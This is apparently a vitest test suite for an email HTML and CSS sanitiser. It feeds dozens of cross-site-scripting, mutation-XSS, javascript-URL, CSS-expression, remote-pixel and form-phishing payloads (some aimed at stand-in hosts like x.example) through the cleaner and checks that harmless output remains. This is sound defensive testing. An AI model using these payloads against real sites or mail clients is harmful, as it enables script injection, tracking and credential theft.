import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cleanHtml } from '../../../src/format/email/clean-html.ts';
import { cleanStyle } from '../../../src/format/email/clean-style.ts';
import { faultsOf } from './harmless.ts';

const PNG = 'data:image/png;base64,AAAA';
const clean = (source: string) => cleanHtml(source, (id) => (id === 'logo@x' ? PNG : null));

/** What people attack mail programs with. Of each must come something harmless that still says "hello". */
const ATTACKS: Readonly<Record<string, string>> = {
  script: '<script>window.pwned=1</script>hello',
  'script in pieces': '<scr<script>ipt>window.pwned=1</scr</script>ipt>hello',
  'script that is not closed': 'hello<script>window.pwned=1',
  'script with odd ends': '<script\t src=//x.example/a.js></script\n>hello',
  'script of a later case': '<ScRiPt/x>window.pwned=1</sCrIpT>hello',
  onerror: '<img src=x onerror="window.pwned=1">hello',
  'onerror without blanks': '<img/src="x"/onerror=window.pwned=1>hello',
  'onerror behind a slash': '<img src=`x`/ onerror=window.pwned=1>hello',
  'on anything': '<p onmouseover=alert(1) onfocus=alert(1) autofocus tabindex=1 onanimationstart=alert(1)>hello</p>',
  'onload of the body': '<body onload=window.pwned=1 background="https://x.example/p.png">hello</body>',
  svg: '<svg onload=window.pwned=1><script>window.pwned=1</script><text>gone</text></svg>hello',
  'svg with a foreign object': '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>hello',
  'svg that moves a link':
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>hello',
  'svg use': '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>hello',
  math: '<math><mi//xlink:href="data:x,<script>alert(4)</script>"></math>hello',
  'math that changes the rules':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math>hello',
  form: '<form action="https://x.example/steal"><input name=password><button formaction="javascript:alert(1)">hello</button></form>',
  isindex: '<isindex type=image src=1 onerror=alert(1)>hello',
  'select and option': 'hello<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  textarea: '<textarea></textarea/><img src=x onerror=alert(1)></textarea>hello',
  iframe: '<iframe src="javascript:alert(1)"></iframe>hello',
  srcdoc: '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>hello',
  'iframe that is not closed': 'hello<iframe><img src=x onerror=alert(1)>',
  frameset: '<frameset><frame src="javascript:alert(1)"></frameset>hello',
  object: '<object data="data:text/html,<script>alert(1)</script>"><param name=x value=y></object>hello',
  embed: '<embed src="https://x.example/x.swf" allowscriptaccess=always>hello',
  applet: '<applet code=x codebase="https://x.example/"></applet>hello',
  base: '<base href="https://x.example/" target=_top><a href="steal">hello</a>',
  'meta refresh': '<meta http-equiv=refresh content="0;url=https://x.example/">hello',
  'meta charset': '<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-hello',
  link: '<link rel=stylesheet href="https://x.example/x.css">hello',
  'link import': '<link rel=import href="data:text/html,<script>alert(1)</script>">hello',
  'remote pixel': '<img src="https://x.example/p.gif" width=1 height=1>hello',
  'pixel without a scheme': '<img src="//x.example/p.gif">hello',
  'pixel with backslashes': '<img src="\\\\x.example\\p.gif">hello',
  srcset: '<img srcset="https://x.example/p.gif 1x, //x.example/q.gif 2x">hello',
  picture: '<picture><source srcset="https://x.example/p.webp"><img src="https://x.example/p.png"></picture>hello',
  video: '<video poster="https://x.example/p.png" src="https://x.example/v.mp4" onerror=alert(1)></video>hello',
  audio: '<audio src=x onerror=alert(1) autoplay></audio>hello',
  'lowsrc and dynsrc': '<img lowsrc="https://x.example/a" dynsrc="https://x.example/b">hello',
  'ground of a cell': '<table><tr><td background="https://x.example/p.png">hello</td></tr></table>',
  'data picture of the sender': '<img src="data:image/svg+xml,<svg onload=alert(1)>">hello',
  'blob and file': '<img src="blob:https://x"><img src="file:///etc/passwd">hello',
  'css import': '<style>@import url(https://x.example/x.css);</style>hello',
  'css in a style that is not closed': 'hello<style>@import "https://x.example/x.css"',
  'css url': '<p style="background:url(https://x.example/p.png)">hello</p>',
  'css url in disguise': '<p style="background:\\75\\72\\6c(https://x.example/p.png)">hello</p>',
  'css url behind a comment': '<p style="background:u/**/rl(//x.example)">hello</p>',
  'css image-set': '<p style="background-image:image-set(\'https://x.example/p.png\' 1x)">hello</p>',
  'css content': '<p style="content:url(//x.example/p.png);cursor:url(//x.example/c.cur),auto">hello</p>',
  'css list-style': '<ul style="list-style:url(//x.example/p.png)"><li>hello</ul>',
  'css expression': '<p style="width:expression(alert(1))">hello</p>',
  'css expression in disguise': '<p style="width:e/**/xpression(alert(1));xss:\\65xpression(alert(1))">hello</p>',
  'css behaviour': '<p style="behavior:url(x.htc);-moz-binding:url(x.xml#y)">hello</p>',
  'css over everything': '<div style="position:fixed;inset:0;z-index:9999;background:#fff">hello</div>',
  'css far away': '<div style="position:absolute;left:-9999px;margin:-500px;transform:scale(9)">hello</div>',
  'css variable': '<p style="--x:url(//x.example);background:var(--x)">hello</p>',
  'css that breaks out': '<p style="color:red}body{display:none">hello</p>',
  'css in quotes': '<p style=\'font-family:"a;background:url(//x.example)"\'>hello</p>',
  noscript: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>hello',
  title: '<title><img src=x onerror=alert(1)></title>hello',
  'style that is closed in an attribute': '<p title="</style><img src=x onerror=alert(1)>">hello</p>',
  'title that is closed in an attribute': '<title><a title="</title><img src=x onerror=alert(1)>"></title>hello',
  xmp: '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>hello',
  noembed: '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>hello',
  plaintext: 'hello<plaintext><img src=x onerror=alert(1)>',
  listing: '<listing>&lt;img onerror="alert(1)" src=x&gt;</listing>hello',
  template: '<template><script>alert(1)</script></template>hello',
  'comment that ends early': '<!--><img src=x onerror=alert(1)>-->hello',
  'comment with an exclamation mark': '<!-- --!><img src=x onerror=alert(1)> -->hello',
  'comment for one browser': '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->hello',
  'comment that is not closed': 'hello<!-- <img src=x onerror=alert(1)>',
  cdata: '<![CDATA[<script>alert(1)</script>]]>hello',
  'processing instruction': '<?xml-stylesheet href="javascript:alert(1)"?>hello',
  doctype: '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>hello',
  'attribute that breaks out': '<a href="https://x.example/" title=\'"><script>alert(1)</script>\'>hello</a>',
  'grave accents': '<a href="https://x.example/`onmouseover=alert(1)`">hello</a>',
  'name of an attribute': '<a "onclick=alert(1) x<y="1" href="https://x.example">hello</a>',
  'entities in text': '&lt;script&gt;alert(1)&lt;/script&gt;hello',
  'twice encoded': '&amp;lt;script&amp;gt;alert(1)hello',
  NUL: '<scr\0ipt>alert(1)</scr\0ipt><img src=x on\0error=alert(1)>hello',
  'names of JavaScript': '<__proto__ constructor=1>hello</__proto__><p __proto__=1 constructor=2>hello</p>',
  'own elements': '<x-y is=z slot=a part=b>hello</x-y>',
  'id and name': '<a id=document name=cookie>hello</a><img name=getElementById id=body>',
  'table turned inside out':
    '<table><a href="https://x.example"><tr><td><p>hello<table></a><img src=x onerror=alert(1)>',
  'form in a form':
    'hello<form><div></form><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'p in p in svg': 'hello<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'long numbers': '<table><tr><td colspan=999999999 rowspan=999999999 width=99999999999>hello</table>',
};

describe('HTML of strangers', () => {
  it.each(Object.entries(ATTACKS))('%s: what is left is harmless', (_, source) => {
    const { html } = clean(source);
    expect(faultsOf(html)).toEqual([]);
    expect(html).toContain('hello');
    // and again: what was harmless stays what it is
    expect(faultsOf(clean(html).html)).toEqual([]);
  });

  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    '\u0001javascript:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
    'java\0script:alert(1)',
    '&#106;avascript:alert(1)',
    '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)',
    'javascript&colon;alert(1)',
    'jav&Tab;ascript&NewLine;:alert(1)',
    'vbscript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD4=',
    'blob:https://x.example/1',
    'file:///etc/passwd',
    'ftp://x.example/',
    'ms-word:ofe|u|https://x.example/x.docx',
    'search-ms:query=x',
    'view-source:https://x.example',
    '//x.example/',
    '/sign-out',
    'steal?x=1',
    '#top',
    '?x',
    'http://',
  ])('a link to %s is none', (href) => {
    expect(clean(`<a href="${href.replaceAll('"', '&quot;')}">hello</a>`).html).toBe('<a>hello</a>');
  });

  it.each([
    ['https://x.example/a?b=1&amp;c=2', 'https://x.example/a?b=1&amp;c=2'],
    [' HTTPS://X.example ', 'https://x.example/'],
    ['https:\\\\x.example\\a', 'https://x.example/a'],
    ['https://bank.example@x.example/', 'https://bank.example@x.example/'],
    ['https://bаnk.example/', 'https://xn--bnk-6cd.example/'],
    ['mailto:a@x.example', 'mailto:a@x.example'],
    ['tel:+15550102231', 'tel:+15550102231'],
  ])('a link to %s says where it leads', (href, leads) => {
    const { html } = clean(`<a href="${href}" title="your bank" onclick="x()">hello</a>`);
    expect(html).toBe(
      `<a href="${leads}" title="${leads}" target="_blank" rel="noopener noreferrer nofollow">hello</a>`,
    );
  });

  it('pictures of the mail are shown; others are counted and told by their words', () => {
    const { html, remote, unshown } = clean(
      '<img src="cid:logo@x" alt="Contoso" width=80><img src="CID:logo%40x"><img src="cid:none"><img src="https://x.example/p.gif" alt="The sale"><img src="data:image/png;base64,AAAA"><td background="http://x.example/b.png" style="background:url(//x.example/c)">',
    );
    expect(html).toBe(
      `<img width="80" alt="Contoso" src="${PNG}" /><img alt="" src="${PNG}" /><img alt="" /><img alt="The sale" /><img alt="" /><td></td>`,
    );
    expect({ remote, unshown }).toEqual({ remote: 3, unshown: 2 });
  });

  it('the looks of an ordinary mail stay', () => {
    const source =
      '<body bgcolor="#ffffff" style="margin:0"><table width="600" cellpadding="0" cellspacing="0" align="center"><tbody><tr><td colspan="2" bgcolor="#EEEEEE" valign="top" style="padding:10px 20px;border-left:1px solid #cccccc;font-family:Arial, \'Segoe UI\', sans-serif;color:rgb(20, 30, 40)"><h1 style="font-size:1.5em">Hi</h1><font face="Arial" size="2" color="red">red</font><ul><li>one</li></ul><blockquote style="margin:0 0 0 .8ex;border-left:1px solid rgb(204,204,204)">old</blockquote></td></tr></tbody></table></body>';
    expect(clean(source).html).toBe(
      '<div bgcolor="#ffffff" style="margin:0"><table width="600" cellpadding="0" cellspacing="0" align="center"><tbody><tr><td colspan="2" bgcolor="#EEEEEE" valign="top" style="padding:10px 20px;border-left:1px solid #cccccc;font-family:arial, \'segoe ui\', sans-serif;color:rgb(20, 30, 40)"><h1 style="font-size:1.5em">Hi</h1><font face="Arial" size="2" color="red">red</font><ul><li>one</li></ul><blockquote style="margin:0 0 0 .8ex;border-left:1px solid rgb(204,204,204)">old</blockquote></td></tr></tbody></table></div>',
    );
  });

  it('whatever is thrown together of tags, attacks and rubbish comes out harmless', () => {
    const pieces = [
      ...Object.values(ATTACKS),
      ...'< > " \' = / <!-- --> --!> <![CDATA[ ]]> </style> <style> </script> <script> </title> <title> <svg> </svg> <math> <mtext> <table> <td> </table> <p> </p> <a href= javascript:alert(1) onerror=alert(1) style= url( &#x3c; &lt; \0 \\ ` <noscript> </noscript> <textarea> </textarea/> <xmp> <plaintext> <iframe> </iframe> <select> <option>'.split(
        ' ',
      ),
    ];
    fc.assert(
      fc.property(
        fc.array(fc.oneof(fc.constantFrom(...pieces), fc.string({ maxLength: 8 })), { maxLength: 25 }),
        (parts) => {
          const { html } = clean(parts.join(''));
          expect(faultsOf(html)).toEqual([]);
        },
      ),
      { numRuns: 1_500 },
    );
  }, 60_000);

  it('an address, or a style, beyond all measure is none', () => {
    const source = `<a href="https://x.example/${'a'.repeat(5_000)}" style="color:${' '.repeat(50_000)}red">hello</a>`;
    expect(clean(source).html).toBe('<a>hello</a>');
  });

  it('20 000 nested elements take no time', () => {
    const from = performance.now();
    expect(faultsOf(clean('<div>'.repeat(20_000) + 'hello').html)).toEqual([]);
    expect(performance.now() - from).toBeLessThan(5_000);
  });
});

describe('the style of an element', () => {
  it.each([
    ['color:red;background-color: #FFF !important; position:absolute', 'color:red;background-color:#fff'],
    ['COLOR : Red', 'color:red'],
    ['color:red;color:blue', 'color:blue'],
    ['margin:-10px', ''],
    ['margin:0 auto 1.5em', 'margin:0 auto 1.5em'],
    ['border:1px solid rgba(0, 0, 0, 0.5)', 'border:1px solid rgba(0, 0, 0, 0.5)'],
    ['width:100000px;height:expression(1)', ''],
    ['mso-line-height-rule:exactly;line-height:1.4', 'line-height:1.4'],
    ['color:re\\64', ''],
    ['', ''],
    [':;::;;', ''],
  ])('of %s stays %s', (style, stays) => {
    expect(cleanStyle(style)).toBe(stays);
  });

  it('is only ever what is on the list', () => {
    const bits = fc.constantFrom(
      ...'color background width border font-family : ; url( ) // \\ /* */ " \' , px 1 red #fff ! @import expression( var(--x) \n } {'.split(
        ' ',
      ),
    );
    fc.assert(
      fc.property(fc.array(fc.oneof(bits, fc.string({ maxLength: 4 })), { maxLength: 30 }), (parts) => {
        const style = cleanStyle(parts.join(''));
        expect(style).toMatch(/^(?:[a-z-]+:[a-z0-9 #%.,"'()_-]+(?:;|$))*$/);
        expect(style).not.toMatch(/url|expression|var|image|@/);
      }),
      { numRuns: 2_000 },
    );
  });
});
